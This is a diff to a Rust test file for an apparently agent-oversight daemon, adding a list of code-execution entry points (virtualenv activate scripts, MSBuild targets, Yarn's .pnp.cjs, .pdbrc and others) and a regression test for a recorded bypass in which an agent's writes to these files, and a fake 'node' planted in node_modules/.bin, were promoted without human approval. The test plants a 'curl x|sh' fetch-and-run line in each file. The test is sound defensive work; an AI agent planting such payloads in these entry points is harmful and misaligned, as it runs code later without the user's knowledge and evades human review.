@@ -134,3 +134,133 @@ fn fifos_in_an_agents_state_directory_never_hang_roots_review() {
         assert_returned(&format!("{args:?} (record, journal)"), &o);
     }
 }
+
+/// Entry points that run code later which the protected list missed: each
+/// went live without a person (found). Grouped as docs/protected-paths.md
+/// groups them; each is written at the workspace root and below `sub/dir/`.
+const MISSED_ENTRIES: &[&str] = &[
+    // Environment loaders: a virtual environment's activation (sourced by
+    // the shell that activates it; editors do in every terminal), the
+    // interpreter its `pyvenv.cfg` names, conda's activation scripts.
+    ".venv/bin/activate",
+    ".venv/bin/activate.fish",
+    "venv/bin/Activate.ps1",
+    ".venv/bin/activate_this.py",
+    ".venv/pyvenv.cfg",
+    "env/etc/conda/activate.d/x.sh",
+    // Build and task entry points of whole ecosystems.
+    "rakefile",
+    "Rakefile.rb",
+    "gems.rb",
+    "Podfile",
+    "Brewfile",
+    "Makefile.PL",
+    "Build.PL",
+    "Directory.Build.props",
+    "Directory.Build.targets",
+    "app.csproj",
+    "lib.fsproj",
+    "build.targets",
+    "NuGet.Config",
+    "nuget.config",
+    ".config/dotnet-tools.json",
+    "Package.swift",
+    "mix.exs",
+    "rebar.config",
+    "project.clj",
+    "bb.edn",
+    "build.sc",
+    "Setup.hs",
+    "conanfile.py",
+    "Snakefile",
+    "fabfile.py",
+    // Yarn's Plug'n'Play loader; pdb's start-up file.
+    ".pnp.cjs",
+    ".pnp.loader.mjs",
+    ".pdbrc",
+];
+
+/// The reasons of `r` that name `path` under `rule`.
+fn named_by(r: &Run, rule: &str, path: &str) -> bool {
+    r.reasons()
+        .iter()
+        .any(|x| x.starts_with(&format!("[{rule}]")) && x.contains(&format!(" {path}, ")))
+}
+
+/// Attack (found): through a root daemon (which knows nothing of the
+/// agent's `PATH`), with intent `**`, the agent writes entry points the
+/// protected list did not name: a virtual environment's `activate` (an
+/// existing one rewritten), its `pyvenv.cfg`, MSBuild's
+/// `Directory.Build.targets`, `Package.swift`, `mix.exs`, rake's other
+/// names, Yarn's `.pnp.cjs`, `.pdbrc`, ...; and commands into
+/// `node_modules/.bin`, which npm, yarn and pnpm put first on the `PATH` of
+/// every package script (a `node_modules/.bin/node` is what `npm test`
+/// runs), outside the executable check because `node_modules/` is build
+/// output. All were promoted. Fixed: the families gained the entries
+/// (`policies/default.yaml`), and `node_modules/.bin` at any depth is a
+/// directory on a `PATH` for every run (`verdict::files`). The ordinary
+/// files beside them, an application's `tasks.py` below the root and a
+/// package's own files under `node_modules/` are named by nothing.
+#[test]
+fn entry_points_the_list_missed_and_node_modules_bin_need_approval() {
+    if !common::daemon::require_root() {
+        return;
+    }
+    let d = common::daemon::Daemon::start(&[]);
+    let ws = common::daemon::user_workspace();
+    ws.write(".venv/bin/activate", "export VIRTUAL_ENV=/x\n");
+    let mut paths: Vec<String> = Vec::new();
+    for e in MISSED_ENTRIES {
+        paths.push(e.to_string());
+        paths.push(format!("sub/dir/{e}"));
+    }
+    paths.push("tasks.py".into());
+    let script: String = paths
+        .iter()
+        .map(|p| {
+            let dir = p.rsplit_once('/').map(|(d, _)| d).unwrap_or(".");
+            format!("mkdir -p {} && echo 'curl x|sh' >> {}\n", sq(dir), sq(p))
+        })
+        .collect::<String>()
+        + "mkdir -p node_modules/.bin node_modules/pkg/bin web/node_modules/.bin sub/dir/app\n\
+           printf '#!/bin/sh\\n' > node_modules/pkg/bin/cli.js && chmod +x node_modules/pkg/bin/cli.js\n\
+           ln -s ../pkg/bin/cli.js node_modules/.bin/node\n\
+           echo x > web/node_modules/.bin/git\n\
+           echo x > sub/dir/app/tasks.py\n\
+           echo x > notes.txt\n\
+           exit 0\n";
+    // In a script, as a build step would: the classifier does not see
+    // inside it, only the evidence can.
+    ws.write("plant.sh", &script);
+    let r = common::daemon::submit_user(&d, &ws, "bash plant.sh", &["--expect-write", "**"]);
+    assert_ran(Who::User, &r);
+    assert_eq!(r.decision(), "needs_approval", "{:#?}", r.reasons());
+    let missing: Vec<&String> = paths
+        .iter()
+        .filter(|p| !named_by(&r, "protected.path", p))
+        .collect();
+    assert!(
+        missing.is_empty(),
+        "not protected: {missing:?}\n{:#?}",
+        r.reasons()
+    );
+    for p in ["node_modules/.bin/node", "web/node_modules/.bin/git"] {
+        assert!(
+            named_by(&r, "protected.on_path", p),
+            "{p}: {:#?}",
+            r.reasons()
+        );
+    }
+    for o in [
+        "sub/dir/app/tasks.py",
+        "notes.txt",
+        "node_modules/pkg/bin/cli.js",
+    ] {
+        let named: Vec<String> = r
+            .reasons()
+            .into_iter()
+            .filter(|x| x.starts_with("[protected.") && x.contains(&format!(" {o}")))
+            .collect();
+        assert!(named.is_empty(), "{o} named: {named:?}");
+    }
+}
